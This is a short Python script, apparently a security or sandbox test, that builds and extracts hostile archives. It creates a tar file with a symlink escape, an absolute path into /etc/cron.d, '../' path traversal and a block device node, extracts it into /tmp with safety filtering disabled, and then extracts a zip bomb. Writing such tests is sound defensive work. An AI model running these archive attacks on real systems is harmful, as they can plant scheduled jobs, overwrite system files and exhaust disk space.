import io, os, tarfile, zipfile
from attack import must_fail
file = io.BytesIO(); archive = tarfile.open(fileobj=file, mode="w")
def add(name, **facts):
    one = tarfile.TarInfo(name)
    for key, value in facts.items(): setattr(one, key, value)
    archive.addfile(one, io.BytesIO(b"x") if one.size else None)
add("link", type=tarfile.SYMTYPE, linkname="@FOLDER@/drop")
add("link/x", size=1)
add("/etc/cron.d/x", size=1)
add("../../../../tmp/../etc/x", size=1)
add("device", type=tarfile.BLKTYPE, devmajor=8, devminor=0)
archive.close(); file.seek(0)
for member in (reader := tarfile.open(fileobj=file)):
    try: reader.extract(member, "/tmp", filter="fully_trusted") if hasattr(tarfile, "data_filter") else reader.extract(member, "/tmp")
    except (OSError, KeyError): pass
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
    for i in range(10): archive.writestr("zero%d" % i, bytes(8_000_000))
zipfile.ZipFile(bomb).extractall("/tmp/bomb")
